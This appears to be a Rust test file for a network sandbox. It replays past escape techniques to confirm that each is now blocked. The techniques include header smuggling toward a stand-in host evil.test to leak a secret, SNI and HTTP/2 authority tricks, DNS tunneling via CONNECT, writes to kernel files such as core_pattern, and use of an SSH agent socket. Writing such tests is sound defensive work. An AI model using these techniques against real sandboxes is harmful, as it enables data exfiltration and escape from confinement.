//! Ways round the judge that were once open, each judged by what the wire and the servers saw.

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::time::Duration;

use crate::jail::Jail;
use crate::outcome::Outcome;
use crate::suite::{Mode, Suite, both};
use crate::world::World;

const AT_ONCE: Duration = Duration::from_secs(2);

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        address_rule_reaches_its_address_only,
        address_rule_voids_no_path_rule,
        later_requests_to_an_allowed_address,
        head_without_an_end,
        hello_after_a_pause,
        cleartext_http2_after_a_pause,
        connect_to_a_dns_server,
        connect_within_connect,
        synthetic_answers_stay_inside,
        realtime_signal,
        stop_without_a_terminal,
        pending_request_does_not_delay_the_end,
        kernel_files_are_read_only,
        agent_socket_by_rule_only,
    );
}

/// Connects, sends each part after a pause, perhaps ends its side, and prints what comes back.
fn send(jail: &Jail<'_>, host: &str, port: u16, parts: &[&str], end: bool) -> Outcome {
    jail.python(&format!(
        "import socket, time\n\
         s = socket.create_connection(({host:?}, {port}), 3)\n\
         s.settimeout(1)\n\
         try:\n\
         \x20   for part in {parts:?}:\n\
         \x20       s.sendall(part.encode('latin-1')); time.sleep(0.3)\n\
         \x20   if {end}: s.shutdown(socket.SHUT_WR)\n\
         \x20   while True:\n\
         \x20       data = s.recv(65536)\n\
         \x20       if not data: break\n\
         \x20       print(data)\n\
         except OSError as error: print(error)\n",
        end = if end { "True" } else { "False" },
    ))
}

fn request(host: &str, path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
}

fn address_rule_reaches_its_address_only(mode: Mode) {
    let world = World::new();
    let good = world.site("good.test");
    let other = world.site("other.test");
    let address = good.v4.to_string();
    let jail = Jail::new(&world, mode).allow("dns:other.test").allow(&format!("{address}:80"));
    send(&jail, &address, 80, &[&request("other.test", "/a")], false);
    assert_eq!(other.connections(), 0, "the name's own server");
    let absolute =
        "GET http://other.test:8080/b HTTP/1.1\r\nHost: other.test:8080\r\nConnection: close\r\n\r\n";
    let outcome = send(&jail, &address, 80, &[absolute], false);
    assert_eq!(other.connections(), 0, "{outcome}");
    assert!(!outcome.denied().is_empty(), "{outcome}");
}

fn address_rule_voids_no_path_rule(mode: Mode) {
    let world = World::new();
    let good = world.site("good.test");
    let other = world.site("other.test");
    let address = good.v4.to_string();
    let jail = Jail::new(&world, mode).allow("http://other.test/ok/").allow(&format!("{address}:80"));
    let outcome = send(&jail, &address, 80, &[&request("other.test", "/secret")], false);
    assert!(
        outcome.denied().iter().any(|event| event.reason.as_deref() == Some("path-not-allowed")),
        "{outcome}"
    );
    assert_eq!((good.connections(), other.connections()), (0, 0), "{outcome}");
}

fn later_requests_to_an_allowed_address(mode: Mode) {
    let world = World::new();
    let good = world.site("good.test");
    let address = good.v4.to_string();
    let jail = Jail::new(&world, mode).allow(&format!("{address}:80"));
    let first = format!("GET /1 HTTP/1.1\r\nHost: {address}\r\n\r\n");
    let outcome = send(&jail, &address, 80, &[&first, &request("evil.test", "/2")], false);
    assert_eq!(good.paths(), ["/1"], "{outcome}");
    assert!(!world.wire().saw_bytes(b"evil.test"), "{outcome}");
}

/// Some servers serve a head that the end of the stream cuts.
fn head_without_an_end(mode: Mode) {
    let world = World::new();
    world.tcp_echo("good.test", 8081, b"");
    let jail = Jail::new(&world, mode).allow("good.test:8081");
    for head in ["GET /leak HTTP/1.1\r\nHost: evil.test\r\nX: secret\r\n", "GET http://evil.test/ HTTP/1.1"] {
        let outcome = send(&jail, "good.test", 8081, &[head], true);
        assert!(!outcome.denied().is_empty(), "{outcome}");
    }
    // In pieces the beginning goes on its way, and the end of it is a reset that no server serves.
    let pieces = ["GET /leak HTTP/1.1\r\nHost: ev", "il.test\r\nX: y\r\n"];
    let outcome = send(&jail, "good.test", 8081, &pieces, true);
    assert!(!outcome.denied().is_empty(), "{outcome}");
}

/// A job that waits before it speaks is judged all the same, whoever speaks first.
fn hello_after_a_pause(mode: Mode) {
    let world = World::new();
    world.tcp_echo("good.test", 8443, b"220 a server that speaks first\r\n");
    let script = "import socket, ssl, time\n\
         s = socket.create_connection(('good.test', 8443), 3)\n\
         time.sleep(0.3)\n\
         c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n\
         try: c.wrap_socket(s, server_hostname='evil.test')\n\
         except OSError as error: print(error)\n";
    let outcome = Jail::new(&world, mode).allow("good.test:8443").python(script);
    assert!(!outcome.denied().is_empty(), "{outcome}");
    assert!(!world.wire().saw_bytes(b"evil.test"), "{outcome}");
}

fn cleartext_http2_after_a_pause(mode: Mode) {
    let world = World::new();
    let (heard, _) = world.tcp_echo("good.test", 50051, b"\x00\x00\x00\x04\x00\x00\x00\x00\x00");
    let script = "import socket, time\n\
         s = socket.create_connection(('good.test', 50051), 3)\n\
         s.settimeout(1)\n\
         time.sleep(0.3)\n\
         try:\n\
         \x20   s.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + b'authority: evil.test')\n\
         \x20   while s.recv(4096): pass\n\
         except OSError as error: print(error)\n";
    let outcome = Jail::new(&world, mode).allow("good.test:50051").python(script);
    assert!(!outcome.denied().is_empty(), "{outcome}");
    assert!(!heard.contains(b"evil.test"), "{outcome}");
}

fn connect_to_a_dns_server(mode: Mode) {
    let world = World::new();
    let (heard, _) = world.tcp_echo("good.test", 53, b"");
    let jail = Jail::new(&world, mode).allow("good.test:53").allow("good.test:8080");
    let parts = ["CONNECT good.test:53 HTTP/1.1\r\nHost: good.test:53\r\n\r\n", "\0!a tunnel of names"];
    let outcome = send(&jail, "good.test", 8080, &parts, false);
    outcome.assert_says("403");
    assert!(!heard.contains(b"tunnel of names"), "{outcome}");
    // A DNS server takes the method for a length, so what it finds after so many octets is a question.
    let absolute = "!! http://good.test:53/ HTTP/1.1\r\nHost: good.test:53\r\nContent-Length: 17\r\n\r\na tunnel of names";
    for rule in ["good.test:53", "good.test:*"] {
        let jail = Jail::new(&world, mode).allow(rule).allow("good.test:8080");
        let outcome = send(&jail, "good.test", 8080, &[absolute], false);
        outcome.assert_says("403").assert_denied("http", "good.test", "protocol-not-allowed");
    }
    assert_eq!(heard.connections(), 0);
}

fn connect_within_connect(mode: Mode) {
    let world = World::new();
    let (heard, address) = world.tcp_echo("good.test", 9000, b"");
    let connect = format!("CONNECT {address}:9000 HTTP/1.1\r\nHost: {address}:9000\r\n\r\n");
    let nested = connect.repeat(500);
    let jail = Jail::new(&world, mode).allow(&format!("{address}:9000"));
    let outcome = send(&jail, &address.to_string(), 9000, &[&nested], false);
    outcome.assert_success().assert_says("403");
    assert!(!heard.contains(b"CONNECT"), "{outcome}");
}

/// Names are answered without asking anybody, and the connection still reaches the name.
fn synthetic_answers_stay_inside(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let policy = "allow = [\"good.test\", \"asked.test\"]\n[dns]\nanswers = \"synthetic\"\n";
    let outcome = Jail::new(&world, mode)
        .policy(policy)
        .shell("getent ahostsv4 asked.test; curl -sS http://good.test/; curl -sS http://evil.test/");
    outcome.assert_says("198.18.").assert_says("hello from good.test").assert_says("Could not resolve");
    assert_eq!(site.paths(), ["/"]);
    assert!(!world.wire().saw_bytes(b"asked"), "{outcome}");
}

fn realtime_signal(mode: Mode) {
    let world = World::new();
    Jail::new(&world, mode).shell("kill -34 $$").assert_code(128 + 34).assert_faster_than(AT_ONCE);
    world.assert_nothing_left();
}

fn stop_without_a_terminal(mode: Mode) {
    let world = World::new();
    let script = "(sleep 0.3; kill -CONT $$) & kill -STOP $$; echo resumed";
    Jail::new(&world, mode).shell(script).assert_success().assert_says("resumed").assert_faster_than(AT_ONCE);
}

fn pending_request_does_not_delay_the_end(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let script = "curl -sS --max-time 0.3 http://good.test/silence; exit 5";
    Jail::new(&world, mode)
        .allow("good.test")
        .shell(script)
        .assert_code(5)
        .assert_faster_than(Duration::from_secs(1));
}

/// A program named in `core_pattern` would run outside every namespace.
fn kernel_files_are_read_only(mode: Mode) {
    let world = World::new();
    let script = "for file in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /sys/power/state; do \
                  [ ! -e $file ] || (exec 3>>$file) 2>/dev/null && [ -e $file ] && echo open $file; done; true";
    let outcome = Jail::new(&world, mode).shell(script);
    outcome.assert_success();
    assert!(!outcome.stdout.contains("open"), "{outcome}");
}

/// The caller's agent would sign for the job: it is masked, and a rule shows it.
fn agent_socket_by_rule_only(mode: Mode) {
    let world = World::new();
    let path = world.files().shared().join("agent.sock");
    let listener = UnixListener::bind(&path).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::thread::spawn(move || {
        // Ends with the test's process.
        for stream in listener.incoming() {
            let _ = stream.and_then(|mut stream| stream.write_all(b"signed"));
        }
    });
    let socket = path.to_str().unwrap();
    let script = format!(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({socket:?})\nprint(s.recv(9))\n"
    );
    let jail = || Jail::new(&world, mode).env("SSH_AUTH_SOCK", socket);
    jail().python(&script).assert_failure();
    jail().allow(&format!("unix:{socket}")).python(&script).assert_success().assert_says("signed");
}
